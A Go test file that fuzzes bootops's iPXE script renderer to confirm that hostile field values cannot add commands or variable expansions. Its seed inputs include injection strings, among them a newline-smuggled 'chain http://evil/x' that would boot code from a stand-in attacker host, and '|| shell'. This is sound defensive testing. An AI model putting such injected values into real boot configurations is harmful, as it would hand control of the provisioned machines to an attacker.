package compiler

import (
	"slices"
	"strings"
	"testing"

	"github.com/bootops/bootops/plan"
)

// ipxeCommands parses a script as iPXE runs it: line by line, each line
// split at white space; a word starting with '#' ends the line (a comment),
// and "||", "&&" and ";" start another command. It returns every command
// with its arguments, in order; an empty or comment-only line has none.
func ipxeCommands(script string) [][]string {
	var cmds [][]string
	for _, line := range strings.Split(script, "\n") {
		var cur []string
		for _, w := range strings.FieldsFunc(line, func(r rune) bool { return r == ' ' || r == '\t' || r == '\r' || r == '\v' || r == '\f' }) {
			if strings.HasPrefix(w, "#") {
				break
			}
			if w == "||" || w == "&&" || w == ";" {
				if cur != nil {
					cmds = append(cmds, cur)
				}
				cur = nil
				continue
			}
			cur = append(cur, w)
		}
		if cur != nil {
			cmds = append(cmds, cur)
		}
	}
	return cmds
}

// FuzzRenderIPXE renders the iPXE script with arbitrary values in every
// field that reaches it, as a caller that skipped the compiler's checks
// would, and parses the script back: it must hold exactly the template's
// commands, in order, bootops's own parameters exactly once each, and
// nothing iPXE would expand.
func FuzzRenderIPXE(f *testing.F) {
	f.Add("console=tty0 console=ttyS0,115200", "quiet", "n1", "s1", "base", "default", "198.18.0.1", true)
	f.Add("quiet\nboot\nchain http://evil/x", "a\rb", "n1", "s1", "base", "default", "198.18.0.1", true)
	f.Add("quiet || shell", "# rest", "n1\nshell", "s1 && x", "p;", "m\x00", "1.2.3.4 ; chain x", false)
	f.Add("root=${root-path}", "bootops.token=x bootops.machine=y", "${n}", "$${s}", "$", "{", "${ip}", true)
	f.Add("\t\x7f\x1b", "bootops.node=other", "n", "s", "", "m", "a", false)
	f.Fuzz(func(t *testing.T, cmdline, kernelArg, node, site, profile, micro, server string, known bool) {
		s := &plan.Site{Name: site, Network: plan.Network{ServerAddress: server, HTTPPort: 8080}}
		m := &plan.MicroOS{Name: micro, Cmdline: cmdline}
		var n *plan.Node
		if known {
			n = &plan.Node{Name: node}
		}
		script := ipxeScript(s, m, n, profile, []string{kernelArg, "quiet"})

		if strings.Contains(script, "${") {
			t.Fatalf("script holds ${:\n%s", script)
		}
		for i := 0; i < len(script); i++ {
			if c := script[i]; (c < 0x20 && c != '\n') || c == 0x7f {
				t.Fatalf("script holds control character %q:\n%s", c, script)
			}
		}
		if !strings.HasPrefix(script, "#!ipxe\n") {
			t.Fatalf("no #!ipxe line:\n%s", script)
		}
		cmds := ipxeCommands(script)
		var names []string
		for _, c := range cmds {
			names = append(names, c[0])
		}
		if want := []string{"kernel", "initrd", "boot"}; !slices.Equal(names, want) {
			t.Fatalf("commands %q, want %q:\n%s", names, want, script)
		}
		if got := cmds[1]; len(got) != 4 || got[1] != "--name" || got[2] != "initrd" {
			t.Fatalf("initrd command %q", got)
		}
		if len(cmds[2]) != 1 {
			t.Fatalf("boot command %q", cmds[2])
		}
		// bootops's parameters: each exactly once, and no other.
		count := map[string]int{}
		for _, a := range cmds[0][2:] {
			if k, _, _ := strings.Cut(a, "="); strings.HasPrefix(k, "bootops.") {
				count[k]++
			}
		}
		want := map[string]int{plan.CmdlineServer: 1, plan.CmdlineSite: 1, plan.CmdlineToken: 1}
		switch {
		case known && node != "":
			want[plan.CmdlineNode] = 1
		case profile != "":
			want["bootops.profile"] = 1
		}
		if len(count) != len(want) {
			t.Fatalf("bootops parameters %v, want %v:\n%s", count, want, script)
		}
		for k, v := range want {
			if count[k] != v {
				t.Fatalf("bootops parameters %v, want %v:\n%s", count, want, script)
			}
		}
		if !slices.Contains(cmds[0], plan.CmdlineToken+"="+plan.TokenPlaceholder) {
			t.Fatalf("no token placeholder:\n%s", script)
		}
		if !slices.Contains(cmds[0], "quiet") {
			t.Fatalf("a checked kernel argument was lost:\n%s", script)
		}
	})
}

// TestCheckCmdlineMatchesRenderer: a value the compile-time check accepts
// reaches the kernel line word for word; one it refuses does not reach it
// as written.
func TestCheckCmdlineMatchesRenderer(t *testing.T) {
	for _, s := range []string{
		"console=tty0 console=ttyS0,115200", "quiet", "bootops.debug=1", "a=b$c", "ip=dhcp rd.shell",
		"quiet\nboot", "a\rb", "a\x00b", "a\tb", "root=${x}", "bootops.token=x", "bootops.machine=y", "||", "x #y", "\x1b",
	} {
		ok := checkCmdline(s) == ""
		kept := strings.Join(ipxeArgs(s), " ") == s
		if ok != kept {
			t.Errorf("%q: checkCmdline ok=%v, renderer keeps it as written=%v", s, ok, kept)
		}
	}
}
